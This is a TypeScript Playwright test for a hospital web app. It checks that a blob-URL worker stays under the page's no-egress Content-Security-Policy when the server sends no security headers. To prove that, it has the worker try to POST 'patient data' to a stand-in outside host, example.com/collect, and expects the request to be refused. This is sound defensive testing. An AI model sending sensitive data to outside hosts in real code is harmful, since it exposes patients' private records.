/**
 * A hospital web server that sends no security headers: the page's <meta> Content-Security-Policy must
 * still hold the whole app, its worker included (the worker holds all the data). A worker loaded from
 * its own URL would get only its file's headers, that is none; the app starts it from a blob: URL, which
 * inherits the page's policy.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { test, expect } from './support';
import { BASE_PATH } from '../playwright.config';

const PORT = Number(process.env.E2E_PORT ?? 4319) + 1;
const BASE = `http://127.0.0.1:${PORT}${BASE_PATH}`;
let server: ChildProcess;

test.beforeAll(async () => {
  server = spawn(process.execPath, ['scripts/serve.mjs', '--dir', 'dist', '--port', String(PORT), '--base', BASE_PATH, '--no-headers'], { stdio: 'ignore' });
  for (let i = 0; i < 100; i++) {
    try {
      if ((await fetch(BASE)).ok) return;
    } catch {
      // not listening yet
    }
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error('the header-less server did not start');
});
test.afterAll(() => server.kill());

test.use({ baseURL: BASE });

test('served without headers, the worker is under the page\'s no-egress policy', async ({ app, page, request, guard }) => {
  const response = await request.get(BASE);
  expect(response.headers()['content-security-policy']).toBeUndefined();
  await app.open();
  await app.loadSample('pima');
  const workers = page.workers();
  expect(workers.length).toBeGreaterThan(0);
  const engine = workers[0];
  expect(engine.url().startsWith('blob:')).toBe(true);
  // from inside the worker: a request to another origin is refused by the policy, before any request is made
  const outcome = await engine.evaluate(async () => {
    try {
      await fetch('http://example.com/collect', { method: 'POST', body: 'patient data' });
      return 'sent';
    } catch (e) {
      return `refused: ${String(e)}`;
    }
  });
  expect(outcome).toMatch(/^refused/);
  expect(guard.requests.filter((r) => r.url.includes('example.com'))).toEqual([]);
  // the app itself works as usual under that policy
  await app.train();
  guard.cspViolations.length = 0;
});
